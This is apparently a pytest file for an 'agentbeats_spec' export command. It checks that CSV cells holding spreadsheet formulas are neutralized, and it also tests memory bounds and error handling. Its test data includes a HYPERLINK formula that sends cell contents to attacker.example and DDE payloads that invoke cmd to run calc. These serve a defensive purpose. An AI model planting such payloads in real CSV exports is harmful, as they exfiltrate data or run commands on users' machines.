"""`export` on hostile runs: a CSV cell a spreadsheet would run is neutralized (OWASP's rule) unless --csv-raw; memory
follows the largest string, not rows times strings; running out of memory is a one-line error, never exit 3."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest

from agentbeats_spec.cli import main
from agentbeats_spec.runs import _export, _tables

pa = pytest.importorskip("pyarrow")
parquet = pytest.importorskip("pyarrow.parquet")

ROOT = Path(__file__).resolve().parents[2]
FIXTURE = ROOT / "fixtures" / "valid" / "agentcompass-run"
TASK = "details/error/swe_utils_off-by-one_17--dfa418fc068f00e417743b806200f1b051f0086015b104eb0f4cb76f19d6b879"
HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
DDE = "=cmd|' /C calc'!A0"


def hostile_run(tmp_path: Path, benchmark: str, harness: str, model: str, category: str) -> Path:
    root = tmp_path / "run"
    shutil.copytree(FIXTURE, root)
    info = json.loads((root / "run_info.json").read_text(encoding="utf-8"))
    for part, value in (("benchmark", benchmark), ("harness", harness), ("model", model)):
        info["request"][part]["id"] = value
    (root / "run_info.json").write_text(json.dumps(info), encoding="utf-8")
    index = json.loads((root / TASK / "task.json").read_text(encoding="utf-8"))
    (root / TASK / "task.json").write_text(json.dumps({**index, "category": category}), encoding="utf-8")
    return root


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def test_csv_cells_a_spreadsheet_would_run_are_neutralized(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    root = hostile_run(tmp_path, HYPERLINK, "@SUM(A1:A9)", "\t=1+1", DDE)
    output = tmp_path / "tasks.csv"
    assert main(["export", str(root), "--table", "tasks", "--to", "csv", "-o", str(output)]) == 0, capsys.readouterr()
    first = rows(output)[0]
    assert (first["benchmark"], first["harness"], first["model"]) == ("'" + HYPERLINK, "'@SUM(A1:A9)", "'\t=1+1")
    assert first["category"] == "'" + DDE
    assert first["retry_count"] == "2"  # numbers stay numbers
    for row in rows(output):
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values())


def test_a_number_is_no_formula(tmp_path: Path) -> None:
    """A string cell that is a plain decimal number (a negative one too) is written as it is; a sign before anything
    else is neutralized."""
    root = hostile_run(tmp_path, "-1", "+2.5", "-1e3", "-1+cmd|' /C calc'!A0")
    output = tmp_path / "tasks.csv"
    assert main(["export", str(root), "--table", "tasks", "--to", "csv", "-o", str(output)]) == 0
    first = rows(output)[0]
    assert (first["benchmark"], first["harness"], first["model"]) == ("-1", "+2.5", "-1e3")
    assert first["category"] == "'-1+cmd|' /C calc'!A0"


def test_csv_raw_writes_the_cells_as_they_are_and_other_formats_are_untouched(tmp_path: Path) -> None:
    root = hostile_run(tmp_path, HYPERLINK, "@SUM(A1:A9)", "\t=1+1", DDE)
    output = tmp_path / "tasks.csv"
    assert main(["export", str(root), "--table", "tasks", "--to", "csv", "--csv-raw", "-o", str(output)]) == 0
    first = rows(output)[0]
    assert (first["benchmark"], first["category"]) == (HYPERLINK, DDE)
    for to in ("jsonl", "parquet"):
        output = tmp_path / f"tasks.{to}"
        assert main(["export", str(root), "--table", "tasks", "--to", to, "-o", str(output)]) == 0
        read = (
            [json.loads(line) for line in output.read_text(encoding="utf-8").splitlines()]
            if to == "jsonl"
            else parquet.read_table(output).to_pylist()
        )
        assert (read[0]["benchmark"], read[0]["category"]) == (HYPERLINK, DDE)


def test_a_shared_string_is_held_once_per_batch_and_batches_are_bounded_by_bytes() -> None:
    """A run-level string of 1 MB in 2,000 rows: a Parquet batch holds it once (dictionary-encoded), whatever the
    rows; a batch a CSV writer spells out is bounded by the bytes, not by the rows."""
    model = "m" * 1_000_000
    source = [{"run_id": "r", "model": model, "task_id": f"t{n}", "attempt": n} for n in range(2000)]
    arrow_schema = _tables.schema("attempts", [], ["run_id", "model", "task_id", "attempt"])
    assert pa.types.is_dictionary(arrow_schema.field("model").type)
    held = list(_tables.batches(source, arrow_schema))
    assert [batch.num_rows for batch in held] == [2000]
    assert held[0].nbytes < 2 * len(model)
    budget = 4_000_000
    spelled = list(_tables.batches(source, arrow_schema, budget=budget, spelled_out=True))
    assert sum(batch.num_rows for batch in spelled) == 2000
    assert max(batch.num_rows for batch in spelled) * len(model) <= budget
    assert [row["task_id"] for batch in spelled for row in batch.to_pylist()] == [f"t{n}" for n in range(2000)]
    one = list(_tables.batches(source[:3], arrow_schema, budget=10, spelled_out=True))  # a row beyond the budget
    assert [batch.num_rows for batch in one] == [1, 1, 1]


@pytest.mark.parametrize("error", [MemoryError, pa.ArrowMemoryError])
def test_out_of_memory_is_a_one_line_error_not_exit_3(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, error: type[Exception]
) -> None:
    def exhausted(*arguments: object, **options: object) -> object:
        raise error("malloc of size 4294967296 failed")

    monkeypatch.setattr(_export, "batches", exhausted)
    output = tmp_path / "out.parquet"
    assert main(["export", str(FIXTURE), "--to", "parquet", "-o", str(output)]) == 1
    err = capsys.readouterr().err
    assert err == f"agentbeats-spec: error: {FIXTURE}: out of memory while exporting; nothing was written\n"
    assert not output.exists()


@pytest.mark.parametrize("to", ["parquet", "csv", "jsonl"])
def test_a_number_no_column_type_can_hold_is_refused_or_left_out_never_a_crash(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], to: str
) -> None:
    """An integer beyond int64, or beyond a double's range, in what the AgentCompass 1.0.1 result browser shows of a
    task (its page's JSON.parse rounds it) is an error of that task (json.large-integer, issue 34): the export stops
    with the issues and one line (exit 1, nothing written), or --skip-invalid leaves the task out and writes the rest
    (exit 1), in every table and format, never exit 3."""
    root = tmp_path / "run"
    shutil.copytree(FIXTURE, root)
    result = root / TASK / "attempt-1" / "result.json"
    text = result.read_text(encoding="utf-8")
    text = text.replace('"prompt_tokens_len": 812', '"prompt_tokens_len": ' + "9" * 30, 1)
    result.write_text(text.replace('"reward": 0.82', '"reward": 1' + "0" * 400, 1), encoding="utf-8")
    for table in ("tasks", "attempts", "steps"):
        output = tmp_path / f"{table}.{to}"
        assert main(["export", str(root), "--table", table, "--to", to, "-o", str(output)]) == 1
        err = capsys.readouterr().err
        assert "error json.large-integer" in err and err.endswith("AgentCompass 1.0.1 reads, errors or not)\n")
        assert not output.exists()
        assert main(["export", str(root), "--table", table, "--to", to, "-o", str(output), "--skip-invalid"]) == 1
        capsys.readouterr()
    if to == "parquet":
        tasks = parquet.read_table(tmp_path / "tasks.parquet").to_pylist()
        assert [row["task_id"] for row in tasks] == ["math-42"]  # the task left out, the rest written


def test_a_file_naming_too_many_metrics_stops_the_export_with_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every row of the run would be that wide: the export says so before writing anything, and --columns picks."""
    root = tmp_path / "run"
    shutil.copytree(FIXTURE, root)
    result = root / TASK / "attempt-1" / "result.json"
    data = json.loads(result.read_text(encoding="utf-8"))
    data["metrics"].update({f"m{number}": number for number in range(_export.MAX_METRIC_COLUMNS)})
    result.write_text(json.dumps(data), encoding="utf-8")
    output = tmp_path / "attempts.parquet"
    assert main(["export", str(root), "--to", "parquet", "-o", str(output)]) == 2
    assert capsys.readouterr().err == (
        "agentbeats-spec: error: the runs name 1002 metrics, more than the 1000 metric columns an export writes "
        "unless they are named: pick them with --columns\n"
    )
    assert not output.exists()
    assert main(["export", str(root), "--columns", "task_id,metric.m7", "-o", str(output)]) == 0
    assert parquet.read_table(output).to_pylist()[0] == {"task_id": "swe/utils: off-by-one #17", "metric.m7": 7.0}
